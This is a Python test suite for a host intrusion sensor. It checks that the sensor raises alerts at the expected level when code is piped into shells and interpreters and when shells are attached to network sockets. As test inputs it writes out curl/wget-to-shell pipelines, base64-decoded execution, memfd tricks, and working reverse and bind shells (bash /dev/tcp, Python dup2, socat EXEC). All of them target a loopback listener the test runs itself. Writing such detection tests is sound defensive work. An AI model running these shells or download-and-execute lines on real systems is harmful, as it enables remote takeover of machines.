#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Interpreters that are fed from nowhere, each way with exactly its alert; what only looks like it
stays below medium. The network is a listener of the test's own on the loopback device."""
import http.server
import os
import shutil
import socket
import subprocess
import sys
import threading

from sensor import PATIENCE, ROOT, TRIGGERS, Sensor, directory, get, start, until
from tap import Skip, equal, run, test

CODE = b"true\n"  # to other languages than the shell an error, which is as good
PIPED = "Code fed to an interpreter by a pipe or a descriptor"
RELAYED = "Shell behind a process with a network connection"
RULES = [os.path.join(ROOT, "rules/execution", name + ".yml") for name in (
    "shell_on_network_socket", "interpreter_on_network_socket", "program_on_network_socket")]
WORK = directory()
ENV = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "HOME": WORK, "LC_ALL": "C"}


class Page(http.server.BaseHTTPRequestHandler):
    """The code of an attacker."""

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", str(len(CODE)))
        self.end_headers()
        self.wfile.write(CODE)

    def log_message(self, *_):
        pass


def serve():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_address[1]


URL = f"http://127.0.0.1:{serve()}/x"


def tree(sensor, pid):
    """Entity ids of the process and all that came of it."""
    all_forks = sensor.find("fork")
    found, more = set(), {sensor.entity(pid)}
    while more:
        found |= more
        more = {get(e, "process.entity_id") for e in all_forks
                if get(e, "process.parent.entity_id") in more} - found
    return found


def alerts_below(sensor, pid):
    sensor.sync()
    mine = tree(sensor, pid)
    return [a for a in sensor.find(kind="alert") if get(a, "process.entity_id") in mine]


def told(alerts):
    return {(get(a, "rule.name"), get(a, "redshank.alert.level")) for a in alerts}


def act(sensor, script, shell="bash", **options):
    """What is alerted of a script."""
    child = start([f"/bin/{shell}", "-c", script], stdin=subprocess.DEVNULL,
                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=WORK, env=ENV, **options)
    child.wait(PATIENCE)
    return alerts_below(sensor, child.pid)


def evidence(alert, name):
    return get(alert, "redshank.alert.evidence").get("redshank.pipeline." + name)


def need(*programs):
    for program in programs:
        if not shutil.which(program, path=ENV["PATH"]):
            raise Skip(f"there is no {program}")


def copy(program, name):
    path = os.path.join(WORK, name)
    shutil.copy(shutil.which(program, path=ENV["PATH"]), path)
    return path


def piped(name, doc, script, level, source=None, needs=(), shell="bash"):
    """A test: the script raises one alert, which names both ends."""
    def body(sensor):
        need(*needs)
        alerts = act(sensor, script, shell)
        equal(told(alerts), {(PIPED, level)} if level else set())
        equal(len(alerts), 1 if level else 0, "alerts")
        if source:
            line = evidence(alerts[0], "command_line")
            assert line.startswith(source) and " | " in line, line
            assert evidence(alerts[0], "reader.pid"), alerts[0]
            assert evidence(alerts[0], "source.pid"), alerts[0]
    body.__name__ = name
    body.__doc__ = f"{doc}: {level or 'no alert'}"
    return test(body)


with open(os.path.join(WORK, "fetch.py"), "w") as f:
    f.write(f"import urllib.request\nprint(urllib.request.urlopen('{URL}').read().decode())\n")
with open(os.path.join(WORK, "listen.py"), "w") as f:
    f.write("import socket\nsocket.create_server(('127.0.0.1', 0))\nprint('true')\n")
with open(os.path.join(WORK, "code"), "wb") as f:
    f.write(CODE)

# --- downloads ---

piped("curl_sh", "curl | sh", f"curl -s {URL} | sh", "medium", "curl -s", ["curl"])
piped("wget_bash", "wget | bash", f"wget -qO- {URL} | bash", "medium", "wget -qO-", ["wget"])
piped("shell_s", "curl | sh -s with arguments", f"curl -s {URL} | sh -s -- a b", "medium", "curl",
      ["curl"])
piped("dev_stdin", "curl | sh /dev/stdin", f"curl -s {URL} | sh /dev/stdin", "medium", "curl", ["curl"])
piped("subshell", "(curl) | (sh)", f"(true; curl -s {URL}; true) | (true; sh; true)", "medium", "curl",
      ["curl"])
piped("between", "curl | cat | tr | sh: the whole pipeline", f"curl -s {URL} | cat | tr a a | sh",
      "medium", "curl -s " + URL + " | cat | tr a a | sh", ["curl"])
piped("substituted", "bash <(curl): a script on a descriptor", f"bash <(curl -s {URL})", "medium",
      "curl", ["curl"])
piped("tee", "curl | tee >(sh)", f"curl -s {URL} | tee >(sh) >/dev/null; wait", "medium", "curl",
      ["curl"])
piped("fifo", "by a named pipe", f"rm -f p; mkfifo p; curl -s {URL} >p & sh <p; wait", "medium",
      "curl", ["curl"])
piped("xargs", "curl | xargs sh -c", f"curl -s {URL} | xargs -I{{}} sh -c {{}}", "medium", "curl",
      ["curl"])
piped("script_fetches", "a program of no known name that connects", "python3 fetch.py | sh", "medium",
      "python3 fetch.py", ["python3"])
piped("dash", "the same by dash", f"curl -s {URL} | sh", "medium", "curl", ["curl"], "dash")
piped("listener", "a program that listens", "python3 listen.py | sh", "medium", "python3 listen.py",
      ["python3"])


@test
def renamed(sensor):
    """A downloader and a shell under other names: medium"""
    need("curl", "dash")
    quiet, plain = copy("curl", "quiet"), copy("dash", "plain")
    alerts = act(sensor, f"dash -c :; {quiet} -s {URL} | {plain}")
    equal(told(alerts), {(PIPED, "medium")})
    equal(evidence(alerts[0], "reader.executable"), plain)
    equal(evidence(alerts[0], "source.executable"), quiet)


for language, code in {"python3": "-", "perl": "", "ruby": "", "php": "", "node": "", "lua5.4": "-"
                       }.items():
    piped(f"into_{language.rstrip('.0123456789')}", f"curl | {language}", f"curl -s {URL} | {language} {code}",
          "medium", "curl", ["curl", language])

piped("two_names", "a script on another number of the same pipe", f"sh /dev/fd/3 3< <(curl -s {URL})",
      "medium", "curl", ["curl"])
piped("dev_tcp_cat", "what a shell reads of /dev/tcp, by cat",
      f"exec 3<>/dev/tcp/127.0.0.1/{URL.split(':')[2].split('/')[0]}; "
      "printf 'GET /x HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 | sed '1,/^.$/d' | sh", "medium", "cat | sed")

# --- decoded and generated ---

piped("base64", "base64 -d | bash", "echo dHJ1ZQo= | base64 -d | bash", "medium", "base64 -d")
piped("openssl", "openssl enc -d | sh", "echo dHJ1ZQo= | openssl enc -d -base64 | sh", "medium",
      "openssl enc", ["openssl"])
piped("xxd", "xxd -r | sh", "echo 747275650a | xxd -r -p | sh", "medium", "xxd", ["xxd"])
piped("gunzip", "gzip -d | sh", "gzip -c code | gzip -d | sh", "medium", "gzip", ["gzip"])
piped("busybox", "busybox base64 -d | busybox sh",
      "echo dHJ1ZQo= | busybox base64 -d | busybox sh", "medium", "busybox base64", ["busybox"])
piped("python_code", "python -c | sh", "python3 -c 'print(\"true\")' | sh", "medium", "python3 -c")
piped("perl_code", "perl -e | sh", "perl -e 'print \"true\\n\"' | sh", "medium", "perl -e", ["perl"])

piped("python_feeds", "python -c that feeds a shell itself",
      "python3 -c 'import subprocess; subprocess.run([\"sh\"], input=b\"true\")'", "medium")

# --- little by itself ---

piped("cat", "cat | sh", "cat code | sh", "low", "cat code")
piped("builtin", "echo | sh, by a builtin", "echo true | sh", "low")
piped("replaced", "code that replaces its shell", "echo exec true | sh", "low")
piped("here_string", "a here-string", "bash <<<true", "low")
piped("here_document", "a here-document of dash", "sh <<END\ntrue\nEND", "low", shell="dash")
piped("here_python", "a here-document for python", "python3 - <<END\npass\nEND", "informational")
piped("substituted_echo", "bash <(echo)", "bash <(echo true)", "low")
piped("data", "data for code in the arguments",
      f"curl -s {URL} | python3 -c 'import sys; sys.stdin.read()'", None, needs=["curl"])
piped("script", "data for a script", f"curl -s {URL} | sh code", None, needs=["curl"])
piped("counted", "ps | xargs", "ps ax | xargs -n1 echo", None, needs=["ps"])
piped("shell_c", "sh -c with a pipe, as cron and editors do", "true | sh -c true", None)
piped("version", "python --version in a pipeline", "cat code | python3 --version", None)
piped("saved", "curl to a file, which is run", f"curl -so saved {URL}; sh saved", None, needs=["curl"])
piped("make", "make's recipes", "printf 'all:\\n\\ttrue\\n' | make -f -", None, needs=["make"])
piped("git", "a hook of git, which gets lines by a pipe",
      "git init -q r && cd r && git config core.hooksPath . && "
      "printf '#!/bin/sh\\ncat >/dev/null\\n' >post-rewrite && chmod +x post-rewrite && "
      "git -c user.name=a -c user.email=a@b commit -q --allow-empty -m a && "
      "git -c user.name=a -c user.email=a@b commit -q --amend --allow-empty -m b", None, needs=["git"])


def python(sensor, code, *args):
    """What is alerted of a python program, which is given as a file."""
    path = os.path.join(WORK, "act.py")
    with open(path, "w") as out:
        out.write(code)
    child = start(["/usr/bin/python3", path, *args], stdin=subprocess.DEVNULL,
                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=WORK, env=ENV)
    child.wait(PATIENCE)
    return alerts_below(sensor, child.pid)


@test
def memfd(sensor):
    """A shell whose standard input is a memfd: high"""
    alerts = python(sensor, """
import os
fd = os.memfd_create("x")
os.write(fd, b"true\\n")
os.lseek(fd, 0, 0)
os.dup2(fd, 0)
os.execv("/bin/sh", ["sh"])
""")
    equal(told(alerts), {(PIPED, "high")})


@test
def unlinked(sensor):
    """A deleted file as standard input, the here-document of older shells: low"""
    equal(told(act(sensor, "cp code gone; exec 0<gone; rm gone; sh")), {(PIPED, "low")})


@test
def descriptor(sensor):
    """A script on a descriptor that is a file: low"""
    equal(told(act(sensor, "exec 9<code; sh /dev/fd/9")), {(PIPED, "low")})


@test
def memfd_argument(sensor):
    """An interpreter that is given a memfd as its script: high"""
    for path in "/proc/self/fd", "/dev/fd":
        alerts = python(sensor, f"""
import os
fd = os.memfd_create("x", 0)
os.write(fd, b"pass\\n")
os.execv("/usr/bin/python3", ["python3", f"{path}/{{fd}}"])
""")
        equal(told(alerts), {(PIPED, "high")}, path)


# --- shells on a network ---

class Attacker:
    """The other end of a reverse or bind shell."""

    def __init__(self):
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.settimeout(PATIENCE)
        self.port = self.listener.getsockname()[1]

    def use(self, end=b"exit\n"):
        """Takes the connection, has the shell say something, and lets it go."""
        peer, _ = self.listener.accept()
        talk(peer, end)

    def close(self):
        self.listener.close()


def talk(peer, end=b"exit\n"):
    with peer:
        peer.settimeout(PATIENCE)
        peer.sendall(b"echo m''ark\n")
        got = b""
        while b"mark" not in got:
            part = peer.recv(4096)
            assert part, f"the shell said only {got!r}"
            got += part
        peer.sendall(end)
        while peer.recv(4096):
            pass


def reverse(name, doc, argv, expected, needs=()):
    """A test: a shell that connects to us."""
    def body(sensor):
        need(*needs)
        attacker = Attacker()
        args = [a.replace("PORT", str(attacker.port)) for a in argv]
        child = start(args, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                      stderr=subprocess.DEVNULL, cwd=WORK, env=ENV, start_new_session=True)
        try:
            attacker.use()
        except ConnectionResetError:
            pass  # a relay may end before it has read all
        child.wait(PATIENCE)
        attacker.close()
        equal(told(alerts_below(sensor, child.pid)), expected)
    body.__name__ = name
    body.__doc__ = doc
    return test(body)


DIRECT = ("Shell reads its commands from a network connection", "critical")
CONNECT = "import socket,os,subprocess,pty\ns=socket.create_connection(('127.0.0.1',PORT))\n"
DUP = "[os.dup2(s.fileno(),i) for i in (0,1,2)]\n"

reverse("dev_tcp", "bash -i on /dev/tcp: critical",
        ["/bin/bash", "-c", "exec bash --norc -i >& /dev/tcp/127.0.0.1/PORT 0>&1"], {DIRECT})
reverse("dup2", "a socket as all three streams: critical",
        ["/usr/bin/python3", "-c", CONNECT + DUP + "os.execv('/bin/sh',['sh'])"], {DIRECT})
reverse("input_only", "a socket as standard input and another descriptor for what it says: critical",
        ["/bin/bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/PORT; exec sh <&5 >&5 2>/dev/null"], {DIRECT})
reverse("relay", "a relay of the attacker's own: high", [os.path.join(TRIGGERS, "relay"), "PORT"],
        {(RELAYED, "high")})
reverse("socat", "socat EXEC, a socket pair: high",
        ["/usr/bin/socat", "TCP:127.0.0.1:PORT", "EXEC:/bin/sh"], {(RELAYED, "high")}, ["socat"])
reverse("socat_pty", "socat EXEC, a terminal: high",
        ["/usr/bin/socat", "TCP:127.0.0.1:PORT", "EXEC:/bin/sh,pty,stderr,setsid,ctty"],
        {(RELAYED, "high")}, ["socat"])
reverse("spawn", "python's pty.spawn on a socket: high",
        ["/usr/bin/python3", "-c", CONNECT + DUP + "pty.spawn('/bin/sh')"], {(RELAYED, "high")})
RELAY = CONNECT + """
import threading
p = subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE, bufsize=0)
def pump():
    while True:
        d = s.recv(999)
        if not d: break
        p.stdin.write(d)
threading.Thread(target=pump, daemon=True).start()
while True:
    d = p.stdout.read(999)
    if not d: break
    s.sendall(d)
"""
reverse("pipes", "pipes to a process that holds the connection: high",
        ["/usr/bin/python3", "-c", RELAY], {(RELAYED, "high")})


@test
def interpreter(sensor):
    """An interpreter that reads its code from a socket: high"""
    attacker = Attacker()
    child = start(["/usr/bin/python3", "-c", (CONNECT + DUP + "os.execv('/usr/bin/perl',['perl'])"
                                              ).replace("PORT", str(attacker.port))],
                  stdin=subprocess.DEVNULL, cwd=WORK, env=ENV)
    peer, _ = attacker.listener.accept()
    with peer:
        peer.sendall(b"exit 0;\n__END__\n")
        peer.shutdown(socket.SHUT_WR)
        child.wait(PATIENCE)
    attacker.close()
    equal(told(alerts_below(sensor, child.pid)),
          {("Interpreter reads its input from a network connection", "high")})


@test
def bound(sensor):
    """A bind shell: critical"""
    child = start(["/usr/bin/python3", "-c", "import socket,os\n"
                   "l=socket.create_server(('127.0.0.1',0))\nprint(l.getsockname()[1],flush=True)\n"
                   "s,_=l.accept()\n" + DUP + "os.execv('/bin/sh',['sh'])"],
                  stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                  cwd=WORK, env=ENV)
    talk(socket.create_connection(("127.0.0.1", int(child.stdout.readline()))))
    child.wait(PATIENCE)
    child.stdout.close()
    equal(told(alerts_below(sensor, child.pid)), {DIRECT})


@test
def other_name(sensor):
    """A program of another name with all three streams on a socket: high"""
    need("dash")
    plain = copy("dash", "unsuspicious")
    attacker = Attacker()
    child = start(["/usr/bin/python3", "-c", (CONNECT + DUP + f"os.execv('{plain}',['x'])").replace(
        "PORT", str(attacker.port))], stdin=subprocess.DEVNULL, cwd=WORK, env=ENV)
    attacker.use()
    child.wait(PATIENCE)
    attacker.close()
    equal(told(alerts_below(sensor, child.pid)),
          {("Program on a network connection, with all three standard streams", "high")})


@test
def in_container(sensor):
    """In a container, with its id"""
    need("curl")
    root = "/sys/fs/cgroup/unified" if os.path.isdir("/sys/fs/cgroup/unified") else "/sys/fs/cgroup"
    container = "0c0ffee2" * 8
    group = os.path.join(root, f"docker-{container}.scope")
    os.mkdir(group)

    def enter():
        with open(os.path.join(group, "cgroup.procs"), "w") as out:
            out.write("0")

    try:
        alerts = act(sensor, f"curl -s {URL} | sh", preexec_fn=enter)
    finally:
        until(lambda: not open(os.path.join(group, "cgroup.procs")).read(), "the container's end")
        os.rmdir(group)
    equal(told(alerts), {(PIPED, "medium")})
    equal({get(a, "container.id") for a in alerts}, {container})


if __name__ == "__main__":
    sys.exit(run(Sensor(rules=RULES)))
